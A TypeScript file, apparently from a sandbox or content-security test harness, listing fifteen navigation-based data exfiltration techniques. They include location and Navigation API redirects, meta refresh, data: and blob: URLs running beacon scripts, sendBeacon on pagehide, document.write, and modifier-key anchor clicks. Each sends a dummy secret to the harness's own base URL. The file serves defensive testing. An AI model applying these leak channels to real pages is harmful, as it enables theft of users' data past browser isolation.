import type { Channel } from "./channel.ts";

interface WithNavigation {
  navigation: { navigate(url: string): unknown };
}

/** The view leads its own frame away; the address it goes to carries the data. */
export const NAVIGATIONS: readonly Channel[] = [
  {
    id: "nav_location",
    family: "navigation",
    entry: 32,
    attack: (t) => {
      location.href = `${t.base}/c?secret=1`;
    },
  },
  {
    id: "nav_replace",
    family: "navigation",
    entry: 32,
    attack: (t) => location.replace(`${t.base}/c?secret=1`),
  },
  {
    id: "nav_navigation_api",
    family: "navigation",
    entry: 32,
    attack: (t) => {
      (window as unknown as WithNavigation).navigation.navigate(`${t.base}/c?secret=1`);
    },
  },
  {
    id: "nav_anchor_click",
    family: "navigation",
    entry: 35,
    attack: (t) => t.element("a", { href: `${t.base}/c?secret=1` }).click(),
  },
  {
    id: "nav_meta_refresh",
    family: "navigation",
    entry: 33,
    attack: (t) =>
      t.element("meta", { "http-equiv": "refresh", content: `0;url=${t.base}/c?secret=1` }),
  },
  {
    id: "nav_open_self",
    family: "navigation",
    entry: 32,
    attack: (t) => window.open(`${t.base}/c?secret=1`, "_self"),
  },
  {
    id: "nav_js_then",
    family: "navigation",
    entry: 38,
    attack: (t) => {
      location.href = `javascript:void(location.href="${t.base}/c?secret=1")`;
    },
  },
  {
    id: "nav_data_then",
    family: "navigation",
    entry: 38,
    attack: (t) => {
      location.href = `data:text/html,<script>new Image().src="${t.base}/img?secret=1";location="${t.base}/c"</script>`;
    },
  },
  {
    id: "nav_blob_then",
    family: "navigation",
    entry: 38,
    attack: (t) => {
      location.href = t.blob(
        `<script>new Image().src="${t.base}/img?secret=1";location="${t.base}/c"</script>`,
        "text/html",
      );
    },
  },
  {
    // The frame goes blank; a worker the old document started tries to send in its last moments.
    id: "nav_blank_then",
    family: "navigation",
    entry: 38,
    attack: (t) => {
      addEventListener("pagehide", () => {
        navigator.sendBeacon(`${t.base}/c`, "secret");
      });
      window.open("about:blank", "_self");
    },
  },
  {
    id: "nav_rewritten_document",
    family: "navigation",
    entry: 33,
    attack: (t) => {
      document.open();
      document.write(
        `<meta http-equiv="refresh" content="0;url=${t.base}/c?secret=1"><script>new Image().src="${t.base}/img?secret=1"</script>`,
      );
      document.close();
    },
  },
  {
    id: "download_attr",
    family: "navigation",
    entry: 35,
    attack: (t) => t.element("a", { href: `${t.base}/c?secret=1`, download: "x" }).click(),
  },
  {
    id: "nav_anchor_control",
    family: "navigation",
    entry: 35,
    attack: (t) =>
      t
        .element("a", { href: `${t.base}/c?secret=1` })
        .dispatchEvent(new MouseEvent("click", { ctrlKey: true, cancelable: true, bubbles: true })),
  },
  {
    id: "nav_anchor_alt",
    family: "navigation",
    entry: 193,
    attack: (t) =>
      t
        .element("a", { href: `${t.base}/c?secret=1` })
        .dispatchEvent(new MouseEvent("click", { altKey: true, cancelable: true, bubbles: true })),
  },
  {
    id: "nav_anchor_shift",
    family: "navigation",
    entry: 35,
    attack: (t) =>
      t
        .element("a", { href: `${t.base}/c?secret=1` })
        .dispatchEvent(
          new MouseEvent("click", { shiftKey: true, cancelable: true, bubbles: true }),
        ),
  },
];
